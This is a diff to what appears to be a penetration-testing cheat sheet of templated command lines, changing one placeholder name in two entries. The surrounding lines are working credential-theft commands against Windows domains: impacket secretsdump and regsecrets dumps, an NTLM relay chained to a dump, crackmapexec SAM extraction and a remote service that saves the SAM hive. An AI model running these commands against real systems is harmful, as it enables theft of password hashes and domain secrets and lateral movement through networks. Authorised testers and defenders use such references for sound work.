@@ -136,7 +136,7 @@ secretsdump-exec bash: «secretsdump.py¦impacket-secretsdump» -exec-method «s
 secretsdump-exe cmd: ‹dir›\secretsdump.exe «-sam ‹file› -system ‹file› LOCAL¦‹domain›/‹user›:‹pass›@‹ip›»
 secretsdump-relay bash: «ntlmrelayx.py¦impacket-ntlmrelayx» -t «smb://‹ip›¦‹ip›» -smb2support && secretsdump.py -no-pass ‹domain›/‹user›@‹ip›
 secretsdump-aes bash: «secretsdump.py¦impacket-secretsdump» -aesKey ‹hash›‹hash› -k ‹domain›/‹user›@‹server›
-secretsdump-cache bash: «export ¦»KRB5CCNAME=«/tmp/‹name›.ccache¦‹user›.ccache»« &&¦;¦» «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹user›@‹server›.‹fqdn›
+secretsdump-cache bash: «export ¦»KRB5CCNAME=«/tmp/‹name›.ccache¦‹user›.ccache»« &&¦;¦» «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹user›@‹host›.‹fqdn›
 secretsdump-history bash: «secretsdump.py¦impacket-secretsdump» -history -user-status ‹domain›/‹user›:'‹pass›'@‹ip›
 crackmapexec-sam-hash bash: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm» ‹ip› -u ‹user› -H «aad3b435b51404eeaad3b435b51404ee:¦»‹hash› --sam
 crackmapexec-sam-local bash: «crackmapexec¦cme¦nxc¦netexec» smb ‹lfile› -u «administrator¦‹user›» -p '‹pass›' --local-auth --sam
@@ -155,7 +155,7 @@ impacket-reg-python bash: python3 «/opt/impacket/examples/¦»reg.py ‹domain�
 impacket-services bash: «services.py¦impacket-services» ‹user›:'‹pass›'@‹ip› create -name ‹name› -path 'cmd /c reg save HKLM\\SAM C:\\‹name›'
 regsecrets-hash bash: «regsecrets.py¦impacket-regsecrets» -hashes :‹hash› «‹domain›/¦»‹user›@‹ip›
 regsecrets-out bash: «regsecrets.py¦impacket-regsecrets» ‹user›:'‹pass›'@‹ip› -outputfile ‹ldir›/‹name›
-regsecrets-kerberos bash: KRB5CCNAME=‹name›.ccache «regsecrets.py¦impacket-regsecrets» -k -no-pass ‹server›.‹fqdn›
+regsecrets-kerberos bash: KRB5CCNAME=‹name›.ccache «regsecrets.py¦impacket-regsecrets» -k -no-pass ‹host›.‹fqdn›
 regsecrets-throttle bash: «regsecrets.py¦impacket-regsecrets» -throttle ‹n› ‹domain›/‹user›:'‹pass›'@‹ip›
 regsecrets-loop bash: while read h; do regsecrets.py ‹user›:'‹pass›'@$h; done < ‹lfile›
 sharpsecdump-ps powershell: «.\¦& ‹dir›\»SharpSecDump.exe -target=«‹server›,‹server›¦‹ip›»
